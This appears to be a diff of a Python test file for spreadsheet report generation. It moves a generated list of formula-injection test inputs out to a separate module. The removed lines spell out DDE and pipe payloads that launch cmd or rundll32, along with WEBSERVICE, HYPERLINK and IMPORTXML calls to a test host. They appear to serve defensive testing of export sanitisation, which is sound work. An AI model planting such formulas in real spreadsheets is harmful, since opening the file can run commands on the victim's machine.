@@ -5,10 +5,10 @@ import io
 import re
 import zipfile
 from dataclasses import replace
-from itertools import islice, product
 
 import openpyxl
 import pytest
+from formulas import PAYLOADS
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from lxml import etree
@@ -22,14 +22,6 @@ from analysis.report import Placed, Quality, Quote, Report, Theme, Told
 from analysis.words import LANGUAGES
 
 MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
-OPENERS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝", "{=", "|", "%", '"=')
-BODIES = (
-    *("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test","see")', "A1", "-1", "2+5+cmd"),
-    *('DDE("cmd";"/C calc";"x")', 'IMPORTXML(CONCAT("//x";A1))', "@SUM(1+1)", "1/0", "RAND()", "NOW()"),
-    *('WEBSERVICE("http://x.test")', "rundll32|'URL.dll'!A", "INDIRECT(A1)", "TRUE", "1e9", "0x1F"),
-)
-TAILS = ("", " ", "\n", ",", ";", '"', "\r\n", "<r>", "&amp;")
-PAYLOADS = ["".join(one) for one in islice(product(OPENERS, BODIES, TAILS), 0, None, 4)][:500]
 ODD = (
     *(
         "line\r\nline",
